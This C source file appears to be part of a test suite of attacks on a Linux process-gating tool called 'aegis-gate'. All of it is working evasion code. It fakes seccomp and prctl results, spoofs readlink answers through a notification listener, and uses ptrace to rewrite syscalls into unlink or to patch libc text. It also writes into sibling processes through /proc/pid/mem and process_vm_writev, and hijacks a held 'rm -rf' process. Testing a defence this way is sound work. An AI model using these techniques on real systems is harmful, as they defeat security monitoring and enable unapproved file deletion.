#define _GNU_SOURCE
#include <linux/audit.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <pthread.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/uio.h>
#include <sys/user.h>

#include "bypass.h"

static void filtered(void)
{
    /* A filter that answers prctl(59) with success: what starts after it believes that it is armed. */
    struct sock_filter code[] = {
        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_prctl, 0, 3),
        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, args[0])),
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, DISPATCH, 0, 1),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO | 0),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
    };
    struct sock_fprog program = {sizeof code / sizeof *code, code};
    prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
    prctl(PR_SET_SECCOMP, SECCOMP_MODE_FILTER, &program);
    if (raw(SYS_fork, 0, 0, 0) == 0) {
        gone();
        raw(SYS_exit, 0, 0, 0);
    }
    raw6(SYS_wait4, -1, 0, 0, 0, 0, 0);
}
/* A filter that lets a thread of ours answer calls: it lies about the names by which the file is judged. */
static int listener;
static void *lie(void *unused)
{
    (void)unused;
    for (;;) {
        struct seccomp_notif asked = {0};
        if (ioctl(listener, SECCOMP_IOCTL_NOTIF_RECV, &asked))
            return NULL;
        char *room = (char *)(uintptr_t)(asked.data.nr == SYS_readlink ? asked.data.args[1] : asked.data.args[2]);
        struct seccomp_notif_resp answer = {.id = asked.id, .val = (int64_t)strlen("/tmp/harmless")};
        memcpy(room, "/tmp/harmless", strlen("/tmp/harmless"));
        ioctl(listener, SECCOMP_IOCTL_NOTIF_SEND, &answer);
    }
}
static void notified(void)
{
    struct sock_filter code[] = {
        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_readlinkat, 1, 0),
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_readlink, 0, 1),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_USER_NOTIF),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
    };
    struct sock_fprog program = {sizeof code / sizeof *code, code};
    prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
    listener = (int)syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, SECCOMP_FILTER_FLAG_NEW_LISTENER, &program);
    pthread_t liar;
    if (listener < 0)
        return;
    pthread_create(&liar, NULL, lie, NULL);
    gone();
}
/* Trace a child of our own and let it make another call than it was about to make. */
static void traced(int how)
{
    pid_t child = fork();
    if (child == 0) {
        ptrace(PTRACE_TRACEME, 0, 0, 0);
        raise(SIGSTOP);
        if (how == 1)
            gone();
        for (;;)
            getppid();
    }
    int status;
    waitpid(child, &status, 0);
    if (how == 1) {
        uint64_t configuration[4] = {0};
        ptrace(0x4210 /* SET_SYSCALL_USER_DISPATCH_CONFIG */, child, (void *)sizeof configuration, configuration);
        ptrace(PTRACE_CONT, child, 0, 0);
        usleep(300000);
    } else if (how == 3) {
        /* Our own instructions over libc's, where the child will come by. */
        uint64_t word;
        memcpy(&word, deletes, sizeof word);
        if (ptrace(PTRACE_POKETEXT, child, (void *)(uintptr_t)&getppid, word) == 0) {
            struct user_regs_struct registers;
            ptrace(PTRACE_GETREGS, child, 0, &registers);
            registers.rip = (unsigned long long)(uintptr_t)&getppid;
            registers.rdi = (unsigned long long)(uintptr_t)victim;
            registers.orig_rax = ~0ull;
            ptrace(PTRACE_SETREGS, child, 0, &registers);
            ptrace(PTRACE_CONT, child, 0, 0);
            usleep(300000);
        }
    } else {
        ptrace(PTRACE_SYSCALL, child, 0, 0);
        waitpid(child, &status, 0);
        struct user_regs_struct registers;
        ptrace(PTRACE_GETREGS, child, 0, &registers);
        registers.orig_rax = UNLINK;
        registers.rdi = (unsigned long long)(uintptr_t)victim;
        ptrace(PTRACE_SETREGS, child, 0, &registers);
        ptrace(PTRACE_SYSCALL, child, 0, 0);
        usleep(300000);
    }
    kill(child, SIGKILL);
}
static void traced_off(void) { traced(1); }
static void traced_other(void) { traced(2); }
static void traced_text(void) { traced(3); }

/* Into a sibling's memory, whose libc is exempt. */
static void sibling(int by_file)
{
    volatile uintptr_t function = (uintptr_t)&getppid;
    pid_t child = fork();
    if (child == 0) {
        usleep(200000);
        ((long (*)(const char *))function)(victim);
        _exit(0);
    }
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/mem", child);
    struct iovec here = {(void *)deletes, sizeof deletes}, there = {(void *)function, sizeof deletes};
    if (by_file) {
        int fd = open(path, O_RDWR);
        if (fd >= 0 && pwrite(fd, deletes, sizeof deletes, (off_t)function) < 0)
            perror("pwrite");
    } else
        process_vm_writev(child, &here, 1, &there, 1, 0);
    waitpid(child, NULL, 0);
}
static void sibling_memory(void) { sibling(1); }
static void sibling_written(void) { sibling(0); }
/* A held program waits in a process of ours: take that process over. */
static void held(void)
{
    pid_t child = fork();
    if (child == 0) {
        execlp("rm", "rm", "-rf", "held", (char *)NULL);
        _exit(1);
    }
    char name[64] = "", path[64];
    snprintf(path, sizeof path, "/proc/%d/exe", child);
    for (int i = 0; i < 100 && !strstr(name, "aegis-gate"); i++) {
        usleep(50000);
        name[readlink(path, name, sizeof name - 1) > 0 ? strcspn(name, "") : 0] = 0;
    }
    char target[4096];
    ssize_t size = readlink(path, target, sizeof target - 1);
    target[size > 0 ? size : 0] = 0;
    if (strstr(target, "aegis-gate") && ptrace(PTRACE_SEIZE, child, 0, 0) == 0)
        puts("SUCCEEDED");
    char word = 0;
    struct iovec here = {&word, 1}, there = {&word, 1};
    snprintf(path, sizeof path, "/proc/%d/mem", child);
    if (strstr(target, "aegis-gate") && (open(path, O_RDWR) >= 0 || (process_vm_writev(child, &here, 1, &there, 1, 0), errno == EFAULT)))
        puts("SUCCEEDED");
    kill(child, SIGKILL);
}

const struct attack attacks_of_tracers[] = {
    {"filtered", filtered}, {"notified", notified}, {"traced-off", traced_off}, {"traced-other", traced_other},
    {"traced-text", traced_text}, {"sibling-memory", sibling_memory}, {"sibling-written", sibling_written},
    {"held", held},
    {NULL, NULL},
};
